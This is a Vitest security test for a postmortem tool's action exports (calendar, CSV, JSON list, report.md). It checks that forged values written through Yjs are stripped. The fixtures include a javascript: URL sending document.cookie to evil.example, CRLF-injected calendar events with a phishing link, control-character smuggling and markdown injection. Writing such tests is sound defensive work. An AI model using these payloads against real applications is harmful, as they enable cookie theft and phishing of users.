import { afterAll, beforeAll, expect, it } from 'vitest';
import * as Y from 'yjs';
import { actionsMap, addAction, metaMap, promoteFinding } from '@debrief/model';
import { FACILITATOR_KEYS_HEADER, formatFacilitatorKeys, type ActionListItem } from '@debrief/protocol';
import { api, connectPerson, createTestPostmortem, eventually, startTestServer, type TestServer } from '../testing/server-harness.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.stop());

const PHISH = 'https://phish.example/login';
/** What a facilitator's own client can write into `<id>/findings`: the server never sees an API call for it. */
const FORGED_EVENT = `\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged@debrief\r\nDTSTART;VALUE=DATE:20260105\r\nSUMMARY:Your SSO password expires today\r\nURL:${PHISH}`;

async function get(path: string, keys: Record<string, string> | null = null) {
  const response = await fetch(`${server.url}${path}`, { headers: keys ? { [FACILITATOR_KEYS_HEADER]: formatFacilitatorKeys(keys) } : {} });
  return response.text();
}
/** The calendar as a client reads it: folded lines joined, split only at CRLF. */
const icsLines = (ics: string) => ics.replace(/\r\n /g, '').split('\r\n');

it('keeps forged dates, ids, links and control characters written through Yjs out of the calendar, the CSV, the list and report.md', async () => {
  const pm = await createTestPostmortem(server, 'Login outage');
  const fiona = connectPerson(server, pm.id, pm.facilitatorKey, 'Fiona');
  await Promise.all([fiona.board.synced, fiona.findings.synced]);
  const doc = fiona.findings.doc;
  const finding = promoteFinding(doc, { type: 'root', statement: 'Session tokens were not rotated' });
  const honest = addAction(doc, [finding], 'Rotate tokens on deploy');
  // Written as a hand-written client would, straight into the action's map (the model's writers check formats).
  const forge = (id: string, fields: Record<string, string>) =>
    doc.transact(() => Object.entries(fields).forEach(([key, value]) => actionsMap(doc).get(id)!.set(key, value)));
  forge(honest, { owner: 'Identity team', due: '2099-03-01', trackerUrl: 'javascript:fetch("//evil.example?"+document.cookie)' });
  const forgedDue = addAction(doc, [finding], 'Review token lifetimes');
  forge(forgedDue, { owner: 'SRE', due: `2099-01-01${FORGED_EVENT}`, trackerUrl: 'https://tracker.example/T-1' });
  const loneCr = addAction(doc, [finding], 'Add alerting\rBEGIN:VEVENT');
  forge(loneCr, { owner: 'SRE\u2028Ops', due: '2099-01-02\rBEGIN:VEVENT' });
  // An action stored under an id of any shape, as a hand-written client can do.
  doc.transact(() => {
    const entry = new Y.Map<unknown>();
    for (const [key, value] of Object.entries({
      findingIds: '[]',
      what: 'Odd id',
      owner: 'SRE',
      due: '2099-01-03',
      status: 'open',
      trackerUrl: '',
      order: 9,
    }))
      entry.set(key, value);
    actionsMap(doc).set(`aaaaaaaaaaaaaaaa${FORGED_EVENT}`, entry);
  });
  metaMap(fiona.board.doc).set('incidentAt', `2026-11-01\n\n# Action required\n\n[Sign in again](${PHISH})`);

  const mine = { [pm.id]: pm.facilitatorKey };
  await eventually(async () => expect((JSON.parse(await get('/api/actions', mine)) as { items: unknown[] }).items).toHaveLength(4));

  const check = async (keys: Record<string, string> | null) => {
    const ics = await get('/api/actions.ics', keys);
    const lines = icsLines(ics);
    expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(ics).not.toContain('phish.example');
    expect(ics).not.toMatch(/javascript/i);
    expect(lines.filter((line) => line.startsWith('UID:')).every((line) => /^UID:[0-9a-z]+(-[0-9a-z]+)*@debrief$/.test(line))).toBe(true);
    // Events for the real day and the odd id only; the forged days are left out.
    expect(lines.filter((line) => line.startsWith('DTSTART')).sort()).toEqual(['DTSTART;VALUE=DATE:20990103', 'DTSTART;VALUE=DATE:20990301']);
    expect(lines).toContain('SUMMARY:Rotate tokens on deploy (Identity team)');

    const csv = await get('/api/actions.csv', keys);
    expect(csv).not.toMatch(/javascript/i);
    expect(csv).toContain('https://tracker.example/T-1');

    const items = (JSON.parse(await get('/api/actions', keys)) as { items: ActionListItem[] }).items.filter((a) => a.postmortemId === pm.id);
    expect(items.map((a) => [a.what.slice(0, 12), a.due, a.trackerUrl, /^([0-9a-z]{16}|(action|published)-\d+)$/.test(a.id)]).sort()).toEqual([
      ['Add alerting', '', '', true],
      ['Odd id', '2099-01-03', '', true],
      ['Review token', '', 'https://tracker.example/T-1', true],
      ['Rotate token', '2099-03-01', '', true],
    ]);
  };
  await check(mine);

  // Published, the same actions reach everyone from the report.
  const published = await api(server, 'POST', `/api/postmortems/${pm.id}/publish`, pm.facilitatorKey);
  expect(published.status).toBe(200);
  await check(null);
  const markdown = await get(`/api/postmortems/${pm.id}/report.md`);
  expect(markdown).not.toContain('phish.example');
  expect(markdown).not.toContain('Action required');
  expect(markdown.split(/\r\n|\r|\n/).filter((line) => line.startsWith('# '))).toEqual(['# Login outage']);
  fiona.destroy();
});
